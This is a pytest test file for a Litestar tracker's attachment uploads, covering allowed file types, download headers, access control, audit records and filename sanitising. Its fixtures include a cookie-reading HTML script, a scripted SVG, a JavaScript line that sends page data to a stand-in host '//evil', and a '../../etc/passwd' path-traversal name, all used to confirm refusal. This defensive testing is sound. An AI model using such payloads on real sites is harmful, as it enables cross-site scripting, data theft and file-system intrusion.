"""Files attached to a department's reply or rectification report: checks, storage, downloads."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from openpyxl import Workbook
from sqlmodel import Session, col, select

from tests.conftest import Cast, csrf_from
from tests.test_flag_review import NOW, a_flag, do
from tracker.app import STATIC_DIR
from tracker.audit.chain import check_chain, head
from tracker.audit.models import AuditEntry
from tracker.flags.attachments import (
    MAX_FILES,
    AttachmentRefused,
    StoredFile,
    Upload,
    describe,
    display_name,
    record_files,
    store_for,
    stored_path,
)
from tracker.flags.models import Attachment, Flag, FlagAction, FlagStatus
from tracker.i18n import gettext, speaking
from tracker.settings import Settings

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"fetch('/flags/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));\n"
TEMPLATES_DIR = STATIC_DIR.parent / "templates"


def attach(
    db: Session,
    record: FlagAction,
    uploads: list[Upload],
    *,
    user: Any,
    data_dir: Path,
    max_bytes: int,
    now: Any,
) -> list[Attachment]:
    """What the reply route does with its files: store them, then record them on the action."""
    stored: list[StoredFile] = store_for(record.action, db, uploads, data_dir=data_dir, max_bytes=max_bytes)
    return record_files(db, record, stored, user=user, now=now)


def xlsx_bytes() -> bytes:
    workbook = Workbook()
    workbook.active.append(["整改项", "完成日期"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


def files_under(directory: Path) -> set[Path]:
    return {p for p in directory.rglob("*") if p.is_file()} if directory.exists() else set()


def asked_to_explain(db: Session, cast: Cast) -> int:
    flag = a_flag(db, cast)
    do(db, flag, "request_explanation", cast.supervisor, "请说明超期原因")
    assert flag.id is not None
    return flag.id


def send(client: TestClient[Litestar], flag_id: int, action: str, text: str, files: list[tuple[str, bytes]]):  # type: ignore[no-untyped-def]
    """Submit the flag page's form as a browser does, with files as multipart/form-data."""
    page = client.get(f"/flags/{flag_id}")
    return client.post(
        f"/flags/{flag_id}/act",
        data={"action": action, "text": text, "csrf_token": csrf_from(page.text)},
        files=[("files", (name, content, "application/octet-stream")) for name, content in files],
        follow_redirects=False,
    )


def recorded(db: Session) -> tuple[list[FlagAction], list[Attachment]]:
    db.commit()
    db.expire_all()
    return list(db.exec(select(FlagAction))), list(db.exec(select(Attachment)))


def test_an_operator_replies_with_a_pdf_and_a_png_that_the_department_and_supervisors_can_download(
    db: Session,
    cast: Cast,
    settings: Settings,
    as_op_a: TestClient[Litestar],
    as_supervisor: TestClient[Litestar],
) -> None:
    flag_id = asked_to_explain(db, cast)
    page = as_op_a.get(f"/flags/{flag_id}")
    assert 'enctype="multipart/form-data"' in page.text and 'name="files"' in page.text
    response = send(as_op_a, flag_id, "reply", "系统故障，见附件", [("说明.pdf", PDF), ("截图.png", PNG)])
    assert response.status_code == 302, response.text
    data = as_op_a.get(f"/flags/{flag_id}?format=json").json()
    assert data["status"] == "explained"
    listed = data["history"][-1]["attachments"]
    assert [(f["name"], f["type"], f["size"]) for f in listed] == [
        ("说明.pdf", "application/pdf", len(PDF)),
        ("截图.png", "image/png", len(PNG)),
    ]
    assert all(f["url"] in as_supervisor.get(f"/flags/{flag_id}").text for f in listed)
    for client in (as_op_a, as_supervisor):
        for f, content, ext in zip(listed, (PDF, PNG), ("pdf", "png"), strict=True):
            download = client.get(f["url"])
            assert download.status_code == 200 and download.content == content
            assert download.headers["content-type"] == f["type"]
            assert download.headers["content-disposition"] == (
                f'attachment; filename="flag-{flag_id}-attachment-{f["id"]}.{ext}"'
            )
            assert download.headers["x-content-type-options"] == "nosniff"
            assert download.headers["cache-control"] == "private, no-store"


def test_a_rectification_report_may_carry_a_jpeg_and_an_xlsx_workbook(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar]
) -> None:
    flag = a_flag(db, cast)
    do(db, flag, "confirm", cast.supervisor, "违规")
    files = [("现场.jpg", JPEG), ("整改台账.xlsx", xlsx_bytes())]
    response = send(as_op_a, flag.id, "report_rectification", "已整改", files)  # type: ignore[arg-type]
    assert response.status_code == 302, response.text
    data = as_op_a.get(f"/flags/{flag.id}?format=json").json()
    assert data["status"] == "rectification_submitted"
    assert [f["type"] for f in data["history"][-1]["attachments"]] == [
        "image/jpeg",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ]
    url = data["history"][-1]["attachments"][1]["url"]
    assert as_op_a.get(url).headers["content-disposition"].endswith('.xlsx"')


def test_another_departments_operator_cannot_download_even_through_their_own_flag(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar], as_op_b: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    assert send(as_op_a, flag_id, "reply", "见附件", [("a.pdf", PDF)]).status_code == 302
    url = as_op_a.get(f"/flags/{flag_id}?format=json").json()["history"][-1]["attachments"][0]["url"]
    assert as_op_b.get(url).status_code == 404
    own = a_flag(db, cast, cast.dept_b.id)  # the same attachment id under a flag B may see
    assert as_op_b.get(url.replace(f"/flags/{flag_id}/", f"/flags/{own.id}/")).status_code == 404


def test_anonymous_visitors_cannot_download(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar], anon: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    assert send(as_op_a, flag_id, "reply", "见附件", [("a.pdf", PDF)]).status_code == 302
    url = as_op_a.get(f"/flags/{flag_id}?format=json").json()["history"][-1]["attachments"][0]["url"]
    response = anon.get(url, follow_redirects=False)
    assert response.status_code in (302, 303, 401) and PDF not in response.content


def audit_records(db: Session, after: int) -> list[tuple[str, str, dict[str, Any]]]:
    """The audit log's entries after entry ``after``: kind, ref and what each recorded."""
    db.rollback()
    rows = db.exec(select(AuditEntry).where(AuditEntry.seq > after).order_by(col(AuditEntry.seq)))
    return [(r.kind, r.ref, json.loads(r.body)["record"]) for r in rows]


def test_a_reply_and_its_files_are_recorded_in_the_audit_log_with_each_files_digest(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    before = head(db)[0]
    response = send(as_op_a, flag_id, "reply", "见附件", [("说明.pdf", PDF), ("截图.png", PNG)])
    assert response.status_code == 302, response.text
    actions, attachments = recorded(db)
    reply = actions[-1]
    [(kind, ref, action), (files_kind, files_ref, files)] = audit_records(db, before)
    assert (kind, ref, action["action"], action["text"]) == ("flag_action", str(reply.id), "reply", "见附件")
    assert (files_kind, files_ref, files["action_id"]) == ("attachments", str(reply.id), reply.id)
    sent = [("说明.pdf", "application/pdf", PDF), ("截图.png", "image/png", PNG)]
    assert files["files"] == [
        {"id": a.id, "name": name, "type": type_, "size": len(content), "sha256": sha256(content).hexdigest()}
        for a, (name, type_, content) in zip(attachments, sent, strict=True)
    ]
    assert check_chain(db).problems == []


def test_a_refused_file_appends_nothing_to_the_audit_log(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    before = head(db)
    response = send(as_op_a, flag_id, "reply", "见附件", [("good.pdf", PDF), ("report.pdf", EXE)])
    assert response.status_code == 400
    db.rollback()
    assert head(db) == before and audit_records(db, before[0]) == []


def test_a_renamed_windows_program_is_refused_by_name_and_nothing_is_recorded_or_kept(
    db: Session, cast: Cast, settings: Settings, as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    before = files_under(settings.data_dir / "attachments")
    # The good file first: it is already stored when the second is refused, and must go too.
    response = send(as_op_a, flag_id, "reply", "见附件", [("good.pdf", PDF), ("report.pdf", EXE)])
    assert response.status_code == 400
    assert "report.pdf was refused: it is a Windows program" in response.text
    actions, attachments = recorded(db)
    assert [a.action for a in actions] == ["request_explanation"] and attachments == []
    flag = db.get(Flag, flag_id)
    assert flag is not None and flag.status == FlagStatus.explanation_requested
    assert files_under(settings.data_dir / "attachments") == before


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("page.pdf", HTML, "a web page (HTML)"),
        ("logo.png", SVG, "an SVG image"),
        ("script.jpg", JS, "a text file"),
        ("report.xlsx", plain_zip(), "not an xlsx workbook"),
    ],
    ids=["html", "svg", "js", "a zip that is not a workbook"],
)
def test_web_pages_images_scripts_and_other_zips_are_refused_whatever_their_name(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar], name: str, content: bytes, what: str
) -> None:
    flag_id = asked_to_explain(db, cast)
    response = send(as_op_a, flag_id, "reply", "见附件", [(name, content)])
    assert response.status_code == 400 and name in response.text and what in response.text
    assert recorded(db)[1] == []


def test_a_reply_may_be_larger_than_an_ordinary_forms_body_limit(
    db: Session, cast: Cast, settings: Settings, as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    scan = PDF + b"%" * settings.max_body_bytes  # a scanned letter: more than any plain form may send
    assert send(as_op_a, flag_id, "reply", "见扫描件", [("scan.pdf", scan)]).status_code == 302
    assert [a.size for a in recorded(db)[1]] == [len(scan)]


def test_a_file_over_the_size_limit_is_refused_and_not_kept(db: Session, cast: Cast, tmp_path: Path) -> None:
    flag = a_flag(db, cast)
    do(db, flag, "request_explanation", cast.supervisor)
    record = do(db, flag, "reply", cast.op_a)
    big = PDF + b"%" * 2048
    with pytest.raises(AttachmentRefused) as refused:
        attach(
            db,
            record,
            [Upload("big.pdf", io.BytesIO(big))],
            user=cast.op_a,
            data_dir=tmp_path,
            max_bytes=1024,
            now=NOW,
        )
    assert str(refused.value) == "big.pdf is larger than 1 KB, the largest file accepted."
    assert files_under(tmp_path) == set()


def test_files_may_go_only_with_a_reply_or_report_and_at_most_five_at_once(
    db: Session, cast: Cast, as_supervisor: TestClient[Litestar], as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    too_many = [(f"{n}.pdf", PDF) for n in range(MAX_FILES + 1)]
    response = send(as_op_a, flag_id, "reply", "见附件", too_many)
    assert response.status_code == 400 and f"Attach at most {MAX_FILES} files" in response.text
    response = send(as_supervisor, flag_id, "confirm", "违规", [("note.pdf", PDF)])
    assert response.status_code == 400 and "only to a reply or a rectification report" in response.text
    actions, attachments = recorded(db)
    assert [a.action for a in actions] == ["request_explanation"] and attachments == []


def test_an_action_without_files_still_works_as_a_plain_form_and_with_the_csrf_header(
    db: Session, cast: Cast, as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    token = csrf_from(as_op_a.get(f"/flags/{flag_id}").text)
    response = as_op_a.post(
        f"/flags/{flag_id}/act",
        data={"action": "reply", "text": "无附件的说明"},
        headers={"x-csrf-token": token},
        follow_redirects=False,
    )
    assert response.status_code == 302, response.text
    data = as_op_a.get(f"/flags/{flag_id}?format=json").json()
    assert (data["status"], data["history"][-1]["attachments"]) == ("explained", [])


def test_the_file_is_kept_under_the_data_directory_with_a_random_name_readable_only_by_the_owner(
    db: Session, cast: Cast, settings: Settings, as_op_a: TestClient[Litestar]
) -> None:
    flag_id = asked_to_explain(db, cast)
    response = send(as_op_a, flag_id, "reply", "见附件", [("../../etc/passwd.pdf", PDF)])
    assert response.status_code == 302, response.text
    (attachment,) = recorded(db)[1]
    path = stored_path(settings.data_dir, attachment)
    assert path.read_bytes() == PDF and path.name == attachment.storage_key
    assert path.resolve().is_relative_to((settings.data_dir / "attachments").resolve())
    assert not path.resolve().is_relative_to(STATIC_DIR) and not path.resolve().is_relative_to(TEMPLATES_DIR)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert attachment.original_name == "passwd.pdf" and "passwd" not in str(path)
    assert not any(p.name == "passwd.pdf" for p in settings.data_dir.rglob("*"))


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\张三\\说明.pdf", "说明.pdf"),
        ("..", "attachment"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
    ],
)
def test_the_uploaded_name_loses_its_folders_and_control_characters(raw: str, shown: str) -> None:
    assert display_name(raw) == shown


def test_files_of_a_transaction_that_rolls_back_are_removed(db: Session, cast: Cast, tmp_path: Path) -> None:
    flag = a_flag(db, cast)
    do(db, flag, "request_explanation", cast.supervisor)
    record = do(db, flag, "reply", cast.op_a)
    rows = attach(
        db,
        record,
        [Upload("a.png", io.BytesIO(PNG))],
        user=cast.op_a,
        data_dir=tmp_path,
        max_bytes=1 << 20,
        now=NOW,
    )
    assert stored_path(tmp_path, rows[0]).is_file()
    db.rollback()
    assert files_under(tmp_path) == set()
    kept = attach(
        db,
        record,
        [Upload("b.png", io.BytesIO(PNG))],
        user=cast.op_a,
        data_dir=tmp_path,
        max_bytes=1 << 20,
        now=NOW,
    )
    db.commit()
    db.rollback()  # a later transaction's rollback leaves committed files alone
    assert files_under(tmp_path) == {stored_path(tmp_path, kept[0])}


@pytest.mark.parametrize(
    ("head", "what"),
    [
        (b"\x7fELF\x02\x01\x01", "a Linux program"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00",
            "an old Office file (.doc, .xls) or a password-protected file",
        ),
        (b"\x00\x01\x02\xfe\xff", "a file of an unknown kind"),
        ("姓名,电话\n张三,1\n".encode(), "a text file (such as a script or CSV)"),
    ],
)
def test_a_refused_file_is_described_by_what_it_is(head: bytes, what: str) -> None:
    with speaking("en"):
        assert gettext(describe(head)) == what
